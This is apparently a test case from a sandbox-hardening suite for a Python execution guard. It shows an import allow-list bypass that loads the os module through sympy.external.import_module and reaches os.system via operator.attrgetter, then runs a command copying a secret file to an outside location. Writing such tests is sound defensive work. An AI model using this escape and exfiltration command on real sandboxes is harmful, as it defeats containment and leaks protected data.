# category: imports
# attack: sympy.external.import_module('os') imports past the allow-list and returns the raw module; read it through operator.attrgetter/methodcaller
# profile: data_science basic
# run-layer: guard
import sympy, operator
m = sympy.external.import_module("os")
operator.methodcaller("write", 3, b"R{}\n")(m)
operator.attrgetter("system")(m)("cat @SECRET_FILE@ > @OUTSIDE@")
